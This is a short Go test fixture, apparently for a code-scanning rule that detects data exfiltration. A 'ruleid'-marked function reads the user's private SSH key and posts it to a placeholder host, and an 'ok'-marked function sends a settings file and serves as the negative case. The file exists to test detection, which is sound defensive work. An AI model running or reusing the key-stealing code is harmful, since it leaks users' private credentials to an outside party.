package main

func takes() {
	h, _ := os.UserHomeDir()
	// ruleid: exfiltration-other-languages
	b, _ := os.ReadFile(h + "/.ssh/id_rsa")
	http.Post("https://a.invalid/in", "text/plain", bytes.NewReader(b))
}

func signs() {
	h, _ := os.UserHomeDir()
	// ok: exfiltration-other-languages
	b, _ := os.ReadFile(h + "/.config/acme/settings.json")
	http.Post("https://a.invalid/in", "text/plain", bytes.NewReader(b))
}
